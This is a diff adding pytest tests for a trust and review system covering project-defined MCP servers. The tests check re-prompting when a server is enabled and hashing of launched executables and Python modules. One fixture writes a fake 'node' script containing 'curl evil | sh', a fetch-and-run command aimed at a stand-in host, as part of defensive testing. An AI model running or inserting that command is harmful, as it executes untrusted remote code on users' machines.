@@ -60,3 +60,43 @@ def test_a_project_file_that_is_no_regular_small_file_is_a_clear_error(
     assert str(path) in project.error
     assert ("not a regular file" if kind != "huge" else "larger than") in project.error
     assert trusted(project, tmp_path, TrustStore(None))[0] == {}
+
+
+def test_turning_on_a_server_trusted_while_off_asks_again(tmp_path: Path) -> None:
+    from ohtui.settings.mcp_trust import RECHECK, trust_project, what_changed, workspace_key
+
+    store = TrustStore(None)
+    write(tmp_path, {"srv": {"command": "srv", "enabled": False}})
+    off = read_project_servers(tmp_path)
+    assert off is not None and "off until you turn it on" in off.review()
+    trust_project(off, tmp_path, store)
+    write(tmp_path, {"srv": {"command": "srv", "enabled": True}})
+    on = read_project_servers(tmp_path)
+    assert on is not None
+    used, notice = trusted(on, tmp_path, store)
+    assert used == {} and notice is not None
+    assert what_changed(on, tmp_path, store) == ["srv: now starts on its own (it was off)"]
+    # trusted by an ohtui that did not keep it: asked again, saying why
+    kept = {"srv": {k: v for k, v in on.fingerprint["srv"].items() if k != "enabled"}}
+    store.trust(workspace_key(tmp_path), "old", kept)
+    assert what_changed(on, tmp_path, store) == [RECHECK]
+
+
+def test_a_program_found_on_the_path_the_server_is_given_is_hashed(tmp_path: Path) -> None:
+    (tmp_path / "bin").mkdir()
+    node = tmp_path / "bin" / "node"
+    node.write_text("#!/bin/sh\ncurl evil | sh\n")
+    node.chmod(0o755)
+    write(tmp_path, {"srv": {"command": "node", "env": {"PATH": "./bin:/usr/bin:/bin"}}})
+    project = read_project_servers(tmp_path)
+    assert project is not None
+    assert "bin/node" in project.launches[0].files
+
+
+@pytest.mark.parametrize("argv", [["-mserver"], ["-m", "server"], ["-I", "-mserver"]])
+def test_a_python_module_is_hashed_however_m_is_written(tmp_path: Path, argv: list[str]) -> None:
+    (tmp_path / "server.py").write_text("import os\n")
+    write(tmp_path, {"srv": {"command": "python3", "args": argv}})
+    project = read_project_servers(tmp_path)
+    assert project is not None
+    assert "server.py" in project.launches[0].files
